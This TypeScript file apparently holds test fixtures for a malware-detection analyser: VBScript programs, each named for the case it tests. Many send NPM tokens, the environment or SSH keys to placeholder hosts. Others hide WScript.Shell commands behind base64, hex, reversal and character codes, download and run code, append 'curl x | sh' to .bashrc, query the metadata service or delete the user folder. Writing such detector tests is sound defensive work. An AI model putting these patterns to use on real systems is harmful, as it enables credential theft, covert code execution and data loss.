/** How the programs below start a program, send data and read the environment. */
const PREAMBLE = `Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
Function env(n)
  env = sh.ExpandEnvironmentStrings("%" & n & "%")
End Function
Sub post(u, d)
  Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")
  h.Open "POST", u, False
  h.Send d
End Sub
`;

function using(text: string): string {
  return PREAMBLE + text;
}

/** The programs of the suite in this language, by the name of their case. */
export const VBSCRIPT_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": using(
    `If x = "y" Then p = "whoami" Else p = "id"\nsh.Run p\nIf maybe Then t = env("NPM_TOKEN")\npost "https://h.example", t`,
  ),
  "a branch that is not taken is read too": using(`If False Then\n  sh.Run "id"\nEnd If`),
  "a value that a branch may change": using(
    `t = "x"\nIf someday Then t = env("NPM_TOKEN")\npost "https://h.example", t`,
  ),
  "an error that is swallowed hides nothing": using(`On Error Resume Next\nsh.Run "id"`),
  "a loop over the names of files": using(
    `For Each f In Array(".npmrc", ".netrc")\n  post "https://h.example", fso.OpenTextFile(env("USERPROFILE") & "/" & f).ReadAll()\nNext`,
  ),
  "a loop that collects": using(
    `all = ""\nFor Each k In Array("NPM_TOKEN")\n  all = all & env(k)\nNext\npost "https://h.example", all`,
  ),
  "what runs when the file is loaded": `CreateObject("WScript.Shell").Run "id"`,
  "what runs only when somebody calls it": `Sub go()\n  CreateObject("WScript.Shell").Run "id"\nEnd Sub`,
  "a function that the file itself calls runs at load": `Sub go()\n  CreateObject("WScript.Shell").Run "id"\nEnd Sub\nSub main()\n  go\nEnd Sub\nmain`,
  "recursion comes to an end": using(
    `Function f(n)\n  sh.Run "id"\n  f = f(n + 1)\nEnd Function\nf 0`,
  ),
  "a loop without an end comes to an end": using(
    `Do While True\n  work\n  If finished Then Exit Do\nLoop\nsh.Run "id"`,
  ),
  "runs code out of base64": `Set n = CreateObject("MSXML2.DOMDocument.3.0").createElement("b")\nn.dataType = "bin.base64"\nn.text = "Q3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikuUnVuICJjbWQgL2MgaWQi"\nExecute n.nodeTypedValue`,
  "runs code out of hexadecimal": `Set n = CreateObject("MSXML2.DOMDocument").createElement("b")\nn.dataType = "bin.hex"\nn.text = "4372656174654f626a6563742822575363726970742e5368656c6c22292e52756e2022696422"\nExecute n.nodeTypedValue`,
  "runs code out of percent signs": `Execute Unescape("%43reateObject(%22WScript.Shell%22).Run %22id%22")`,
  "runs code out of character codes": `s = ""\nFor Each c In Array(67,114,101,97,116,101,79,98,106,101,99,116,40,34,87,83,99,114,105,112,116,46,83,104,101,108,108,34,41,46,82,117,110,32,34,105,100,34)\n  s = s & Chr(c)\nNext\nExecute s`,
  "runs code out of character codes added one by one": `Execute Chr(&H43) & Chr(114) & "eateObject(""WScript.Shell"").Run " & Chr(34) & ChrW(105) & Chr(100) & Chr(34)`,
  "runs code out of a text that is turned around": `Execute StrReverse("""di"" nuR.)""llehS.tpircSW""(tcejbOetaerC")`,
  "runs code out of parts that are joined": `Execute Join(Array("CreateObject(""WScript.", "Shell"").Run ""i", "d"""), "")`,
  "runs code out of a text with other letters in between": `Execute Replace("C@r@e@ateObject(""WScript@.Shell"").R@un ""i@d""", "@", "")`,
  "runs code out of three encodings one inside the other": `Set d = CreateObject("MSXML2.DOMDocument")
Function u(t, x)
  Set n = d.createElement("b")
  n.dataType = t
  n.text = x
  u = n.nodeTypedValue
End Function
Execute u("bin.base64", StrReverse(u("bin.hex", "3d49435a704a434975566e55756b69497378575a6f4e6c4c30425861794e3255584a434b304e575a714a32546c5258596c4a3351")))`,
  "runs code out of a decoder that the program defines": `Function d(s)\n  d = StrReverse(s)\nEnd Function\nSet n = CreateObject("MSXML2.DOMDocument").createElement("b")\nn.dataType = "bin.base64"\nn.text = d("=ICZpJCIuVnUukiIsxWZoNlL0BXayN2UXJCK0NWZqJ2TlRXYlJ3Q")\nExecute n.nodeTypedValue`,
  "an alias of a function is that function": `Set go = GetRef("start")\nSub start(c)\n  CreateObject("WScript.Shell").Run c\nEnd Sub\ngo "id"`,
  "a name that was given another value is what it was last": `n = "Scripting.Dictionary"\nn = "WScript.Shell"\nCreateObject(n).Run "id"`,
  "a name that no longer is a dangerous function is harmless": `n = "WScript.Shell"\nn = "Scripting.Dictionary"\nCreateObject(n).Add "id", 1`,
  "a module whose name is put together": `CreateObject("WScr" & "ipt.Sh" & "ell").Run "id"`,
  "a module whose name is decoded": `CreateObject(StrReverse("llehS.tpircSW")).Run "id"`,
  "evaluation by a name that is put together": `Execute "Exec" & "ute ""CreateObject(""""WScript.Shell"""").Run """"id"""""""`,
  "data through a function's parameter": using(
    `Sub send(d)\n  post "https://h.example", d\nEnd Sub\nsend env("NPM_TOKEN")`,
  ),
  "data through what a function answers": using(
    `Function get_it()\n  get_it = env("NPM_TOKEN")\nEnd Function\npost "https://h.example", get_it()`,
  ),
  "data that an object keeps": using(
    `Class Box\n  Public t\n  Sub send()\n    post "https://h.example", t\n  End Sub\nEnd Class\nt = env("NPM_TOKEN")\nSet b = New Box\nb.send`,
  ),
  "data inside a text": using(`post "https://h.example/?t=" & env("NPM_TOKEN"), ""`),
  "data through functions that nobody knows": using(
    `post "https://h.example", something(env("NPM_TOKEN"))`,
  ),
  "data that is encoded on its way": using(
    `Set n = CreateObject("MSXML2.DOMDocument").createElement("b")\nn.dataType = "bin.base64"\nn.nodeTypedValue = env("NPM_TOKEN")\npost "https://h.example", n.text`,
  ),
  "data by way of a file": using(
    `Set f = fso.CreateTextFile("C:\\x", True)\nf.Write env("NPM_TOKEN")\nf.Close\npost "https://h.example", fso.OpenTextFile("C:\\x").ReadAll`,
  ),
  "what was a secret and no longer is": using(
    `t = env("NPM_TOKEN")\nt = "ok"\npost "https://h.example", t`,
  ),
  "a secret that is read beside a request it has nothing to do with": using(
    `n = Len(env("NPM_TOKEN"))\npost "https://h.example", "hello"`,
  ),
  "the whole environment is sent": using(
    `For Each e In sh.Environment("PROCESS")\n  all = all & e\nNext\npost "https://webhook.site/x", all`,
  ),
  "one harmless variable is not the environment": using(`post "https://h.example", env("LANG")`),
  "a variable whose name is put together": using(
    `post "https://h.example", env("NPM" & "_" & "TOKEN")`,
  ),
  "a key in the home folder": using(
    `post "https://h.example", fso.OpenTextFile(env("USERPROFILE") & "/.ssh/id_rsa", 1).ReadAll`,
  ),
  "an ordinary file is no credential": `x = CreateObject("Scripting.FileSystemObject").OpenTextFile("package.json").ReadAll`,
  "the start of a shell is written": using(
    `fso.OpenTextFile(env("USERPROFILE") & "/.bashrc", 8).WriteLine "curl x | sh"`,
  ),
  "the metadata service is asked": `Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://169.254.169.254/latest/meta-data/iam/", False`,
  "what was downloaded is run as code": `Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://h.example/p", False\nh.Send\nExecute h.responseText`,
  "a file is downloaded, made executable and started": using(
    `Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://h.example/b", False\nh.Send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Write h.responseBody\ns.SaveToFile "/tmp/b", 2\nsh.Run "icacls /tmp/b /grant Everyone:RX"\nsh.Run "/tmp/b"`,
  ),
  "everything is deleted": using(`fso.DeleteFolder env("USERPROFILE"), True`),
  "native code is loaded": `CreateObject("Excel.Application").RegisterXLL "./x.xll"`,
};
